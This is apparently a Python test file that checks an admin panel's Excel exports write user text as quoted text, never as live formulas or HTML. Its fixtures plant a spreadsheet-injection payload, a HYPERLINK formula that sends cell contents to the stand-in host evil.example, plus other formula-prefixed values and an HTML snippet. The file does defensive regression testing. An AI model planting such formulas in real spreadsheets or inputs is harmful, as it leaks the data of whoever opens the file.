"""Every xlsx export writes user text as text: never a live formula, never HTML.

Regression for the outside test in which a volunteer named ``=HYPERLINK(...)`` (through the roster import or
the form) came out of the reward export as a live formula: the text prefix was applied to plain text
columns only, not to columns that show a related record. The audit-trail export carried HTML.
"""

import io
from datetime import UTC
from datetime import date
from datetime import datetime
from decimal import Decimal

import openpyxl
import pytest

from app.audit import record
from models.audit import AuditAction
from models.audit import AuditEntity
from models.enums import RewardStatus
from models.volunteer import RewardPayout
from tests.support.factories import make_case
from tests.support.factories import make_volunteer
from tests.support.factories import user

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


def cells(response) -> list[openpyxl.cell.Cell]:
    assert response.status_code == 200, response.status_code
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_all_text(found) -> None:
    """No cell is a formula (a spreadsheet would run it); no cell carries the panel's own HTML."""
    formulas = [c.value for c in found if c.data_type == "f"]
    assert not formulas, formulas
    assert not [c.value for c in found if "<code" in str(c.value) or "<a href" in str(c.value)]


@pytest.fixture
def poisoned(db):
    """A volunteer, a case and a reward whose user-written text would be formulas."""
    volunteer = make_volunteer(FORMULA, "CA", phone="13700003333", notes="+SUM(1,2)")
    case = make_case(title=FORMULA, address="@SUM(1)")
    reward = RewardPayout(
        volunteer=volunteer, case=case, amount=Decimal(100), reason="-2+3", status=RewardStatus.PROPOSED
    )
    reward.proposed_by = user("clerk")
    db.session.add(reward)
    record(AuditEntity.VOLUNTEER, volunteer.id, AuditAction.UPDATE, user("admin"), {"name": "<b>x</b>"}, None)
    db.session.commit()
    return volunteer


@pytest.mark.parametrize(
    "role, url",
    [
        ("supervisor", "/admin/reward/export/xlsx/"),
        ("clerk", "/admin/case/export/xlsx/"),
        ("supervisor", "/admin/volunteer/export/xlsx/"),
        ("supervisor", "/admin/audit_log/export/xlsx/"),
    ],
)
def test_no_export_carries_a_formula_or_html(client, login_as, poisoned, role, url):
    login_as(role)
    found = cells(client.get(url))
    assert_all_text(found)


def test_the_related_volunteer_column_is_quoted_text(client, login_as, poisoned):
    """The column the outside test used: the reward's volunteer, a related record."""
    login_as("supervisor")
    found = cells(client.get("/admin/reward/export/xlsx/"))
    assert "'" + FORMULA in [c.value for c in found]


def test_the_audit_trail_exports_its_changes_as_chinese_text(client, login_as, poisoned):
    login_as("supervisor")
    found = [str(c.value) for c in cells(client.get("/admin/audit_log/export/xlsx/"))]
    assert any("<b>x</b>" in v for v in found)  # the user's text as it was, as text
    assert not any("<code" in v or '{"name"' in v for v in found)  # no markup, no raw JSON


def test_a_date_stays_readable(client, login_as, poisoned):
    login_as("supervisor")
    found = [str(c.value) for c in cells(client.get("/admin/volunteer/export/xlsx/"))]
    assert date(2025, 1, 1).isoformat() in "".join(found)


def test_the_case_export_has_typed_cells_a_chinese_sheet_and_a_frozen_header(client, login_as, db):
    """Numbers as numbers, times as Excel times in Beijing time; the sheet named after the list; sized columns."""
    case = make_case(title=FORMULA, people_involved=12, money_involved=Decimal("3500.50"))
    case.received_at = datetime(2026, 12, 1, 16, 30, tzinfo=UTC)
    db.session.commit()
    login_as("clerk")
    response = client.get("/admin/case/export/xlsx/")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["诉求"]
    sheet = book["诉求"]
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert row["收件时间"].is_date and row["收件时间"].value == datetime(2026, 12, 2, 0, 30)
    assert row["涉及人数"].data_type == "n" and row["涉及人数"].value == 12
    assert row["涉及金额（元）"].data_type == "n" and row["涉及金额（元）"].value == 3500.5
    assert row["标题"].data_type == "s" and row["标题"].value == "'" + FORMULA  # still quoted text
    assert row["诉求编号"].value == case.number
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDE"]
    assert all(width and width >= 6 for width in widths)
